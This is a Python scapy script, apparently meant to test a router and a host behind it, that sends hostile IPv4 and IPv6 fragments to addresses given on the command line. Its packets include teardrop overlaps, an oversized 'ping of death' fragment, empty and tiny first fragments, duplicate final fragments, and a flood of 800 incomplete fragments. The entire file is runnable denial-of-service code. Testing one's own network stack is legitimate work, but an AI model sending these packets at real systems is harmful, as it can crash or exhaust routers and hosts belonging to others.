"""Fragments nobody sends by accident: `hostile_fragments.py OUR_ADDRESS ROUTER FAR`, IPv4, then IPv6 with the same names.

To the router itself and to a host behind it: overlapping (teardrop), an empty hole for ever, tiny first fragments, one
beyond the end (ping of death), a second last one, and a flood of first fragments of different packets.
"""
import sys

from scapy.all import ICMP, IP, IPv6, IPv6ExtHdrFragment, Raw, UDP, conf, send

conf.verb = 0
me4, router4, far4, me6, router6, far6 = sys.argv[1:7]


def v4(dst, ident, offset, more, data, proto=17):
    flags = "MF" if more else 0
    return IP(src=me4, dst=dst, id=ident, frag=offset // 8, flags=flags, proto=proto) / Raw(data)


def v6(dst, ident, offset, more, data, proto=17):
    head = IPv6ExtHdrFragment(id=ident, offset=offset // 8, m=int(more), nh=proto)
    return IPv6(src=me6, dst=dst) / head / Raw(data)


for make, targets in ((v4, (router4, far4)), (v6, (router6, far6))):
    for dst in targets:
        packets = [
            # Teardrop: the second lies inside the first.
            make(dst, 1, 0, True, b"A" * 64),
            make(dst, 1, 24, False, b"B" * 8),
            # Overlap by eight bytes.
            make(dst, 2, 0, True, b"A" * 64),
            make(dst, 2, 56, False, b"B" * 64),
            # A first fragment too short for any header, and one of a ragged length.
            make(dst, 3, 0, True, b"A" * 8, 6),
            make(dst, 4, 0, True, b"A" * 13),
            # Beyond what a packet can be long.
            make(dst, 5, 65528, False, b"A" * 64),
            # Two ends.
            make(dst, 6, 64, False, b"A" * 64),
            make(dst, 6, 64, False, b"A" * 32),
            # Nothing at all.
            make(dst, 7, 0, True, b""),
        ]
        packets += [make(dst, 1000 + n, 0, True, b"F" * 1024) for n in range(400)]
        packets += [make(dst, 3000 + n, 1024, False, b"L" * 1024) for n in range(400)]
        send(packets)
